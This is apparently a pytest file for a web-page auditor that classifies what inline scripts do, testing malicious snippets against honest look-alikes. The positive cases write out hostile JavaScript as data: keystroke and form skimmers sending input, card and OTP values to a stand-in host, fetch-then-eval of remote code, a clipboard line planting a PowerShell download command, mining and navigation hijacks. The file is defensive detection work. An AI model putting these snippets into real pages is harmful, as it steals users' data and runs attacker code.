"""What a script does besides leading away, and what honest ones do that looks like it."""

from __future__ import annotations

import pytest

from auditor.content.page.script_acts import join_shown_texts, list_acts


@pytest.mark.parametrize(
    ("code", "act"),
    [
        ("navigator.serviceWorker.register('/s.js');Notification.requestPermission()", "pushes"),
        ("Notification.requestPermission();r.pushManager.subscribe({})", "pushes"),
        ("navigator.serviceWorker.register('/s.js?zone=7781')", "pushes_for_zone"),
        ("navigator.clipboard.writeText('powershell -c iwr https://a.example')", "copies_command"),
        ("if(new Date().getHours()>20)x()", "asks_when"),
        ("if(document.cookie.indexOf('v')<0)x()", "asks_when"),
        ("if(Math.random()<0.1)x()", "asks_when"),
        ("f.addEventListener('submit',function(){navigator.sendBeacon('//a.example',new FormData(f))})", "sends_input"),
        ("document.addEventListener('keyup',e=>fetch('//a.example?'+e.target.value))", "sends_input"),
        ("new Zeta.Anonymous('k',{throttle:.2}).start()", "mines"),
        ("new WebSocket('wss://p.example');new Worker(u);s.send({job_id:1,nonce:2})", "mines"),
        ("fetch('//a.example').then(r=>r.text()).then(t=>eval(t))", "runs_fetched"),
        (
            "document.querySelectorAll('input').forEach(i=>i.addEventListener('blur',()=>new Image().src=u+i.value))",
            "sends_input",
        ),
        ("fetch('//a.example',{body:JSON.stringify({a:cccd.value,b:otp.value})})", "sends_input"),
        ("document.addEventListener('click',function(){window.open('https://a.example/')})", "hijacks"),
        (
            "history.pushState(1,'');onpopstate;x.addEventListener('popstate',()=>{location.replace('//a.example')})",
            "hijacks",
        ),
    ],
)
def test_what_a_script_does_is_told(code: str, act: str) -> None:
    assert act in list_acts(code)


@pytest.mark.parametrize(
    "code",
    [
        "navigator.serviceWorker.register('/sw.js')",
        "navigator.clipboard.writeText(location.href)",
        "f.addEventListener('submit',e=>{e.preventDefault();fetch('/gui',{method:'POST',body:new FormData(f)})})",
        "q.addEventListener('input',e=>fetch('/goi-y?q='+e.target.value))",
        "new Worker('/pdf.js');WebAssembly.instantiateStreaming(fetch('/jpeg.wasm'))",
        "new WebSocket('wss://chat.example').onmessage=show",
        "fetch('/api').then(r=>r.json()).then(show)",
        "document.addEventListener('click',e=>{menu.classList.remove('open')})",
        "history.pushState({},'',u);window.addEventListener('popstate',()=>{load(location.pathname)})",
        "$('form').on('submit',function(){return validate(this.elements)})",
    ],
)
def test_what_honest_scripts_do_is_no_act(code: str) -> None:
    assert not list_acts(code)


def test_only_what_is_shown_is_a_text() -> None:
    assert join_shown_texts("x.fillText(a)", ["nổ hũ mỗi ngày", "<p>nổ hũ</p>", "abc", "one-word"]) == "nổ hũ mỗi ngày"
    assert not join_shown_texts("words.includes(a)", ["nổ hũ mỗi ngày"])
